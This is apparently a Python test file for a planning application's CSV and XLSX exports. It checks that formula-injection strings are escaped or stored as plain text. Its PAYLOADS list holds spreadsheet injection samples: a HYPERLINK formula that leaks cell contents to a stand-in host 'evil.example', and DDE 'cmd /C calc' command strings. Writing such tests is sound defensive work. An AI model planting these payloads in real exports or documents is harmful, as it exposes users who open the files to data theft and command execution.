"""Exports never hand a spreadsheet a formula: text starting with = + - @ tab or CR is escaped
(CSV: a leading apostrophe) or stored as a plain string (.xlsx), whatever its source."""

from __future__ import annotations

import csv
import datetime as dt
import io

from openpyxl import load_workbook

from planwatch.orgs.models import OrgKind
from tests.support.base import BaseTestCase
from tests.support.factory import make_measure_dict, make_org, make_plan, make_plan_dict

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_plan_dict() -> dict:
    doc = make_plan_dict(measures=0, title='=HYPERLINK("http://evil.example") план')
    task = doc["nodes"][0]["children"][0]
    task["title"] = "=1+2 завдання"
    for n, payload in enumerate(PAYLOADS, 1):
        m = make_measure_dict(n, "=EVIL() відділ освіти", text=payload, indicator=payload)
        task["measures"].append(m)
    return doc


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    dialect = csv.Sniffer().sniff(text.splitlines()[0] + "\n", delimiters=";,")
    return [cell for row in csv.reader(io.StringIO(text), dialect) for cell in row]


class FormulaInjectionTestCase(BaseTestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        cls.hostile_org = make_org("=cmd|' /C calc'!A0", OrgKind.COMMUNITY, cls.district)
        cls.hostile = make_plan(cls.community, doc=hostile_plan_dict(), user=cls.coordinator)

    def assert_csv_safe(self, data: bytes) -> None:
        cells = csv_cells(data)
        self.assertTrue(any("calc" in c for c in cells), "the payload should be in the file")
        for cell in cells:
            self.assertFalse(cell.startswith(DANGEROUS), repr(cell))

    def assert_xlsx_safe(self, data: bytes) -> None:
        book = load_workbook(io.BytesIO(data))
        seen = 0
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    self.assertNotEqual(cell.data_type, "f", f"{sheet.title}!{cell.coordinate}")
                    if isinstance(cell.value, str) and "calc" in cell.value:
                        seen += 1
        self.assertTrue(seen, "the payload should be in the file")

    def test_the_plan_csv_export_escapes_formulas(self):
        self.login(self.coordinator)
        response = self.client.get(f"/plans/{self.hostile.pk}/export.csv")
        self.assertEqual(response.status_code, 200)
        self.assert_csv_safe(response.content)

    def test_the_plan_xlsx_export_stores_strings(self):
        self.login(self.coordinator)
        response = self.client.get(f"/plans/{self.hostile.pk}/export.xlsx")
        self.assertEqual(response.status_code, 200)
        self.assert_xlsx_safe(response.content)

    def test_the_public_open_data_csv_escapes_formulas(self):
        response = self.client.get(f"/public/plans/{self.hostile.pk}/measures.csv")
        self.assertEqual(response.status_code, 200)
        self.assert_csv_safe(response.content)

    def test_the_monitoring_report_xlsx_stores_strings(self):
        from planwatch.monitoring.periods import ReportPeriod
        from planwatch.plan_reports.render import build_and_render

        today = dt.date(2026, 1, 15)
        period = ReportPeriod.parse("2025", today)
        self.assert_xlsx_safe(build_and_render(self.hostile, period, today, "xlsx"))

    def test_the_rollup_xlsx_stores_strings(self):
        from planwatch.monitoring.periods import ReportPeriod
        from planwatch.rollup.data import build_rollup
        from planwatch.rollup.documents import render

        make_plan(self.hostile_org, doc=hostile_plan_dict())
        today = dt.date(2026, 1, 15)
        data = build_rollup(self.district, ReportPeriod.parse("2025", today), today)
        self.assert_xlsx_safe(render(data, "xlsx"))

    def test_the_coverage_xlsx_escapes_organisation_names(self):
        from planwatch.strategy.coverage import _text

        for payload in PAYLOADS:
            self.assertFalse(_text(payload).startswith(DANGEROUS))
        self.assertEqual(_text("служба у справах дітей"), "служба у справах дітей")
